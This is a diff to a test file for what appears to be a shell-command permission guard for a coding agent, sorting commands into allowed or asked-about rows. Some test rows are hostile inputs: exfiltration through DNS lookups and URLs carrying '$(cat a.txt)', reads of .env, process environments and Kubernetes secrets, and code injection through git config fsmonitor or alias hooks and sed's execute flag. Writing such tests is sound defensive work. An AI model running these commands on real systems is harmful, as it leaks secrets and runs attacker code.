@@ -52,9 +52,10 @@ function lettersOf(line: string): string {
   return [guards["read-only"], guards.developer, guards.catastrophe, guards.both].map(decide).join("");
 }
 
+/** The first letters of every line's decisions. */
 function rows(name: string, letters: string, lines: readonly string[]): void {
   describe(name, () => {
-    test.each(lines)("%s", (line) => expect(lettersOf(line)).toBe(letters));
+    test.each(lines)("%s", (line) => expect(lettersOf(line).slice(0, letters.length)).toBe(letters));
   });
 }
 
@@ -77,6 +78,71 @@ rows("looking is allowed everywhere", "aaaa", [
   "kubectl rollout restart --help",
   "some-program --version",
   "cat .env.example",
+  "git clean -nd; git tag --list; git tag -n5",
+  "git config user.email && git config --global --get core.editor && git config -l",
+  "git branch; git branch -vv; git branch --merged main; git branch --list 'x*'",
+  "git symbolic-ref --short HEAD",
+  "git push --help; git restore -h; kubectl apply --help",
+  "crontab -l; ss -tlnp; netstat -an; env; env | sort",
+  "unzip -l a.zip; tar tf a.tar; black --check src; java -version; ruby -v",
+  "gh api repos/a/b/pulls",
+  "uniq a.txt; xxd a.bin; sed -n '/x/p' a.txt; awk '{print $1 / 2}' a.txt",
+  "NODE_OPTIONS=--max-old-space-size=4096 node --version",
+  "set -x; ls",
+]);
+
+rows(
+  "what stands behind the first operand of git is no option, and a path is no program that tells about itself",
+  "?",
+  [
+    "git config core.fsmonitor victim --list",
+    "git config core.fsmonitor victim -h",
+    "git config --local core.fsmonitor victim -l",
+    "git config alias.x '!victim' -h",
+    "git branch -v topic",
+    "git branch -v -m master y",
+    "git branch -vv topic HEAD",
+    "git branch --list -D x",
+    "git branch --contains HEAD -m a b",
+    "git tag -l -d y",
+    "git update-index a.txt -h",
+    "git symbolic-ref HEAD refs/heads/x",
+    "./s.sh --help",
+    "./s.sh --version",
+    "env ./s.sh --help",
+    "sub/../s.sh --help",
+  ],
+);
+
+rows("looking does not write or send", "?", [
+  "uniq a.txt q",
+  "uniq - q",
+  "xxd a.txt q",
+  "python3 -m json.tool a.json out.json",
+  "unzip -l-l a.zip",
+  "crontab -l -r",
+  "curl FILE:///etc/hosts",
+  "curl file:/etc/hosts",
+  "host $(cat a.txt).example.com",
+  "dig $(cat a.txt).example.com",
+  "ping -c1 $(cat a.txt).example.com",
+  "nslookup $(cat a.txt).example.com",
+  "git ls-remote https://example.com/$(cat a.txt)",
+  "npm view https://example.com/$(cat a.txt)",
+  "gh api repos/a/b?x=$(cat a.txt)",
+  "gh api -X POST repos/a/b",
+  "gh api repos/a/b -f x=y",
+  "sed 'r .env' a.txt",
+  "sed 'w out' a.txt",
+  "sed 1e a.txt",
+  "awk '{while ((getline l < \".env\") > 0) print l}' a.txt",
+  "awk '{print > \"out\"}' a.txt",
+  "cat /proc/$$/environ",
+  "kubectl get cm,secret",
+  "kubectl describe all,secrets",
+  "kubectl get Secret",
+  "kubectl config view --raw",
+  "GIT_TRACE=$PWD/out git status",
 ]);
 
 rows("changing the project is a developer's work", "?aaa", [
@@ -90,11 +156,48 @@ rows("changing the project is a developer's work", "?aaa", [
   "git checkout -b topic && git switch main",
   "git restore --staged a.txt",
   "git branch -d topic",
-  "git clean -nd",
   "rm a.txt b.txt",
   "rm -rf /tmp/build",
   "npm ci",
   "curl -o data.json https://example.com/data.json",
+  "mv a.txt c.txt",
+  "sed -i s/a/b/ src/a.ts",
+  "sed -i.bak -e s/a/b/ src/a.ts",
+  "prettier --write src; eslint --fix src; ruff check --fix src; clang-format -i a.c; gofmt -w a.go",
+  "git rm --cached a.txt",
+  "npx tsc --noEmit; npx eslint src; npx prettier --check .; npx vitest run; npx jest; npx playwright test",
+  "uv run pytest -q; uv run python build.py; uv run ruff check .",
+  "yarn; flake8; jest; vitest",
+  "PYTHONPATH=. pytest; PYTHONPATH=src python3 -m pytest",
+  "GOFLAGS=-mod=vendor go build ./...",
+]);
+
+rows("a developer's tools do not reach out of the project", "??", [
+  "sed -i s/a/b/ /srv/elsewhere/a",
+  "sed -i s/a/b/ .git/config",
+  "sed -i '1e victim' a.txt",
+  "sed -i 's/a/b/w /srv/elsewhere/a' a.txt",
+  "eslint --fix /srv/elsewhere",
+  "prettier --write /srv/elsewhere",
+  "prettier --write --plugin ./x.js src",
+  "ruff check --fix /srv/elsewhere",
+  "mv /srv/project /srv/elsewhere",
+  "python3 -m pip install x",
+  "python3 -m pytest --junitxml=/srv/elsewhere/x",
+  "python3 /dev/stdin <<< x",
+  "node /proc/self/fd/0 < a",
+  "node -pe 1",
+  "make install",
+  "make deploy",
+  "docker container run alpine",
+  "podman container run alpine",
+  "docker create alpine",
+  "git config core.pager less",
+  "git checkout --track main a.txt",
+  "npx -p left-pad eslint",
+  "npx playwright install",
+  "uv run --with left-pad pytest",
+  "uv run pip install left-pad",
 ]);
 
 rows("what leaves the machine, throws work away or comes from elsewhere is asked about", "??a?", [
